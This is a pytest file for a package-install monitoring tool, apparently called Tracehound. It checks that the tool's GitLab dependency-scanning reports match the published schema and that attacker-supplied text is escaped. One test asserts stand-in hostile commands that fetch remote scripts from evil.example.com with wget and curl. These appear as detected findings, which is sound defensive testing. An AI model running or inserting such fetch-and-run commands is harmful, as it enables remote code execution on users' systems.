"""GitLab dependency-scanning report, validated against GitLab's published 15.1.5 schema."""

from __future__ import annotations

import json
import uuid
from pathlib import Path

import jsonschema
import pytest
from report_samples import clean_result, findings_result, hostile_result, inconclusive_result

from tracehound.report import UnknownFormatError, render

SCHEMA = json.loads(
    (Path(__file__).parent / "data" / "dependency-scanning-report-format-15.1.5.json").read_text(encoding="utf-8"))


def _gitlab(result, **options) -> dict:
    return json.loads(render(result, "gitlab", **options))


def _validate(doc: dict) -> None:
    cls = jsonschema.validators.validator_for(SCHEMA)
    cls.check_schema(SCHEMA)
    cls(SCHEMA).validate(doc)


@pytest.mark.parametrize("make", [findings_result, clean_result, inconclusive_result, hostile_result],
                         ids=lambda f: f.__name__)
@pytest.mark.parametrize("scanner_id", ["tracehound", "packagehunter"])
def test_valid_against_gitlab_schema(make, scanner_id):
    _validate(_gitlab(make(), scanner_id=scanner_id))


def test_the_validator_bites():
    doc = _gitlab(findings_result())
    doc["vulnerabilities"][0]["severity"] = "Catastrophic"
    with pytest.raises(jsonschema.ValidationError):
        _validate(doc)
    doc = _gitlab(findings_result())
    doc["scan"]["start_time"] = "2026-11-26T10:00:00.000Z"  # GitLab wants whole seconds
    with pytest.raises(jsonschema.ValidationError):
        _validate(doc)


def test_scan_section():
    scan = _gitlab(findings_result())["scan"]
    assert scan["type"] == "dependency_scanning"
    assert scan["scanner"] == {"id": "tracehound", "name": "Tracehound", "vendor": {"name": "Tracehound"},
                               "version": "0.1.0"}
    assert scan["analyzer"]["id"] == "tracehound"
    assert scan["start_time"] == "2026-11-26T10:00:00"
    assert scan["end_time"] == "2026-11-26T10:01:05"
    assert scan["status"] == "success"
    assert _gitlab(findings_result())["version"] == "15.1.5"


def test_package_hunter_scanner_id():
    doc = _gitlab(findings_result(), scanner_id="packagehunter")
    assert doc["scan"]["scanner"]["id"] == "packagehunter"
    # vulnerability ids do not depend on the scanner id
    assert [v["id"] for v in doc["vulnerabilities"]] == [v["id"] for v in _gitlab(findings_result())["vulnerabilities"]]
    with pytest.raises(ValueError):
        render(findings_result(), "gitlab", scanner_id=" ")
    with pytest.raises(UnknownFormatError):
        render(findings_result(), "sarif", scanner_id="packagehunter")


def test_one_vulnerability_per_package_and_rule():
    vulns = _gitlab(findings_result())["vulnerabilities"]
    # six alerts; the two outbound-connection alerts of evil-postinstall are one finding
    assert [(v["location"]["dependency"]["package"]["name"], v["name"]) for v in vulns] == [
        ("evil-postinstall", "Unexpected outbound connection destination"),
        ("evil-postinstall", "Honeytoken exfiltrated"),
        ("lodahs", "DNS query with encoded data"),
        ("lodahs", "Launch shell from package code"),
        ("(unattributed)", "Process survived phase end"),
    ]
    # Notice -> Low, Critical -> Critical, Warning -> Medium, Error -> High, Informational -> Info
    assert [v["severity"] for v in vulns] == ["Low", "Critical", "Medium", "High", "Info"]
    outbound = vulns[0]
    assert outbound["details"]["alerts"] == {"name": "Alerts", "type": "value", "value": 2}
    assert outbound["identifiers"] == [{"type": "tracehound_rule", "name": "Unexpected outbound connection destination",
                                        "value": "unexpected-outbound-connection-destination"}]
    assert outbound["location"] == {
        "file": "package-lock.json",
        "dependency": {"package": {"name": "evil-postinstall"}, "version": "1.0.3", "direct": True},
    }
    assert "2 times" in outbound["description"]
    assert "`wget -qO- https://evil.example.com/x.sh`" in outbound["description"]
    assert outbound["details"]["commands"]["items"] == [
        {"type": "code", "value": "wget -qO- https://evil.example.com/x.sh"},
        {"type": "code", "value": "curl -s https://evil.example.com/y"},
    ]
    assert vulns[2]["location"]["dependency"]["direct"] is False
    assert vulns[4]["location"]["dependency"] == {"package": {"name": "(unattributed)"}, "version": ""}


def test_ids_are_stable_unique_uuids():
    a = [v["id"] for v in _gitlab(findings_result())["vulnerabilities"]]
    b = [v["id"] for v in _gitlab(findings_result())["vulnerabilities"]]
    assert a == b
    assert len(set(a)) == len(a)
    assert all(str(uuid.UUID(i)) == i for i in a)
    later = findings_result()
    later.alerts[0].time = "2026-12-24T00:00:00Z"  # the same finding on another day keeps its id
    assert [v["id"] for v in _gitlab(later)["vulnerabilities"]] == a


def test_inconclusive_scan_is_not_reported_as_a_success():
    doc = _gitlab(inconclusive_result())
    assert doc["scan"]["status"] == "failure"
    assert doc["scan"]["messages"] == [
        {"level": "info", "value": "Tracehound verdict: inconclusive"},
        {"level": "warn", "value": "install phase timed out after 600 s"},
        {"level": "warn", "value": "312 events were lost during install (capture buffer overflow)"},
    ]
    assert doc["vulnerabilities"] == []


def test_failed_scan_messages_are_fatal():
    result = inconclusive_result()
    result.status = "failed"
    doc = _gitlab(result)
    assert doc["scan"]["status"] == "failure"
    assert {m["level"] for m in doc["scan"]["messages"][1:]} == {"fatal"}


def test_clean_scan():
    doc = _gitlab(clean_result())
    assert doc["scan"]["status"] == "success"
    assert doc["vulnerabilities"] == []


def test_attacker_text_cannot_become_markdown():
    for v in _gitlab(hostile_result())["vulnerabilities"]:
        desc = v["description"]
        # every attacker-controlled value sits inside a code span: no raw HTML or link can start
        # outside one. Strip the code spans and look at what is left.
        outside = []
        i = 0
        while i < len(desc):
            if desc[i] == "`":
                run = len(desc[i:]) - len(desc[i:].lstrip("`"))
                end = desc.find("`" * run, i + run)
                assert end != -1, "unterminated code span"
                i = end + run
            else:
                outside.append(desc[i])
                i += 1
        rest = "".join(outside)
        assert "<" not in rest and "](" not in rest, rest
